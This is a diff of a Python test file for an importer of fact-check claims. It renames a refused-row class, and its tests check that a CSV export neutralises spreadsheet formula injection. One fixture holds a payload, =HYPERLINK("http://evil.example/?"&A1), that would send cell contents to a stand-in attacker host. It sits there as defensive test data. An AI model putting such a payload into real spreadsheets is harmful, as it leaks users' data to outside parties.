@@ -10,7 +10,7 @@ import pytest
 from openpyxl import Workbook
 
 from assistant.claims.importers import read_rows
-from assistant.claims.records import ImportRemark, Refused
+from assistant.claims.records import ImportRemark, RefusedRow
 from assistant.claims.refused_file import refused_rows_table
 from assistant.core.errors import ClaimError
 from tests.assistant.claims.reported import imported, imported_text, reported
@@ -396,7 +396,7 @@ def test_no_cell_of_a_refused_row_is_a_formula():
     """A spreadsheet runs what begins with =, +, - or @, also after a space."""
     cells = {"=1+1": "x", "claim": '=HYPERLINK("http://evil.example/?"&A1)', "b": " @SUM(A1)"}
 
-    table = refused_rows_table([Refused("=file:2", "-reason", cells)], ["+line"])
+    table = refused_rows_table([RefusedRow("=file:2", "-reason", cells)], ["+line"])
 
     lines = list(csv.reader(table.splitlines()))
     assert lines == [
@@ -409,7 +409,7 @@ def test_no_cell_of_a_refused_row_is_a_formula():
 @pytest.mark.parametrize("statement", ["-5 degrees were measured on Monday.", "@ministry paid it."])
 def test_a_refused_row_that_is_imported_again_has_its_own_words(tmp_path, statement):
     cells = {"statement": statement, "rating": "False", "url": "https://checks.example.org/b"}
-    table = refused_rows_table([Refused("file:2", "no rating.", cells)], [])
+    table = refused_rows_table([RefusedRow("file:2", "no rating.", cells)], [])
 
     result = imported_text(tmp_path, table)
 
